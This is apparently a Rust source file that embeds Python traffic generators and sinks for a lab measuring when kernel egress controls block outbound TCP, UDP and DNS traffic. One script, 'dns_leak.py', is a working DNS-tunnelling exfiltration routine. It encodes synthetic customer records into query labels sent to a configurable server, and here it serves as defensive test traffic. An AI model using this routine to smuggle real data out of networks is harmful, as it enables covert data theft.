//! The lab's traffic: small Python programs run inside the workload cgroups
//! (senders) and in the outside namespace (receivers). Each prints one line
//! per event with a Unix timestamp, so the lab can tell when bytes left and
//! when the kernel stopped them.

/// `rate_send.py HOST PORT TOTAL RATE`: one TCP connection, `TOTAL` payload
/// bytes paced at `RATE` bytes/s. Prints `progress T BYTES` every ~50 ms,
/// then `done T BYTES`, or `stopped T BYTES ERROR` when the socket stalls
/// (a kernel drop shows up as a send timeout) or fails.
pub const RATE_SEND: &str = r#"
import socket, sys, time
host, port, total, rate = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_STREAM)
s.settimeout(3.0)
sent = 0
try:
    s.connect((host, port))
    chunk = b"id,name,iban,email\n" * 3449  # ~64 KiB of "customer records"
    start = time.time()
    last = 0.0
    while sent < total:
        n = s.send(chunk[: min(len(chunk), total - sent)])
        sent += n
        now = time.time()
        if now - last >= 0.05:
            print(f"progress {now:.6f} {sent}", flush=True)
            last = now
        ahead = sent / rate - (now - start)
        if ahead > 0:
            time.sleep(ahead)
    s.shutdown(socket.SHUT_WR)
    s.settimeout(10.0)
    while s.recv(65536):
        pass
    print(f"done {time.time():.6f} {sent}", flush=True)
except OSError as e:
    print(f"stopped {time.time():.6f} {sent} {type(e).__name__}", flush=True)
"#;

/// `progress_sink.py HOST PORT IDLE`: accepts connections one at a time and
/// reads them; prints `end LAST_T TOTAL` for each, where `LAST_T` is when its
/// last byte arrived, once it closes or has been silent for `IDLE` seconds.
pub const PROGRESS_SINK: &str = r#"
import socket, sys, time
host, port, idle = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_STREAM)
s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind((host, port))
s.listen(8)
print("ready", flush=True)
while True:
    c, _ = s.accept()
    c.settimeout(idle)
    total, last = 0, time.time()
    try:
        while True:
            data = c.recv(1 << 20)
            if not data:
                break
            total += len(data)
            last = time.time()
    except OSError:
        pass
    c.close()
    print(f"end {last:.6f} {total}", flush=True)
"#;

/// `dns_leak.py SERVER DOMAIN INTERVAL COUNT`: the low-and-slow leak. Reads
/// "records", base32-encodes 32 bytes per query into one label, and asks
/// `<label>.<seq>.<DOMAIN>` every `INTERVAL` seconds (`COUNT` queries at
/// most). Prints `sent T N` per query and `blocked T N` when the kernel
/// refuses the send.
pub const DNS_LEAK: &str = r#"
import base64, os, socket, struct, sys, time
server, domain, interval, count = sys.argv[1], sys.argv[2], float(sys.argv[3]), int(sys.argv[4])
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.settimeout(0.2)
records = b"".join(b"%06d,Jane Doe,DE44500105175407324931,jane%d@example.org\n" % (i, i) for i in range(2000))
for n in range(count):
    data = records[n * 32:(n + 1) * 32]
    label = base64.b32encode(data).decode().rstrip("=").lower()
    name = f"{label}.{n}.{domain}"
    q = struct.pack(">HHHHHH", n & 0xFFFF, 0x0100, 1, 0, 0, 0)
    for part in name.split("."):
        q += bytes([len(part)]) + part.encode()
    q += b"\x00" + struct.pack(">HH", 16, 1)  # TXT IN
    try:
        s.sendto(q, (server, 53))
    except OSError as e:
        print(f"blocked {time.time():.6f} {n} {type(e).__name__}", flush=True)
        break
    try:
        s.recv(4096)
    except OSError:
        pass
    print(f"sent {time.time():.6f} {n}", flush=True)
    time.sleep(interval)
"#;

/// `udp_until_refused.py HOST PORT COUNT SIZE`: sends up to `COUNT`
/// datagrams of `SIZE` bytes as fast as it can; stops at the first refusal
/// (a kernel drop is EPERM). Prints `sent N`.
pub const UDP_UNTIL_REFUSED: &str = r#"
import socket, sys
host, port, count, size = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), int(sys.argv[4])
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
payload = b"r" * size
n = 0
try:
    for _ in range(count):
        s.sendto(payload, (host, port))
        n += 1
except OSError:
    pass
print(f"sent {n}", flush=True)
"#;

/// `udp_count_sink.py HOST PORT IDLE`: counts datagrams (a large forced
/// receive buffer, so a burst is not lost at the receiver); after `IDLE`
/// seconds of silence following the first one prints `count N` and exits.
pub const UDP_COUNT_SINK: &str = r#"
import socket, sys
host, port, idle = sys.argv[1], int(sys.argv[2]), float(sys.argv[3])
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.SOL_SOCKET, 33, 32 << 20)  # SO_RCVBUFFORCE (root)
s.bind((host, port))
print("ready", flush=True)
n = 0
s.settimeout(None)
while True:
    try:
        s.recv(65535)
        n += 1
        s.settimeout(idle)
    except socket.timeout:
        break
print(f"count {n}", flush=True)
"#;
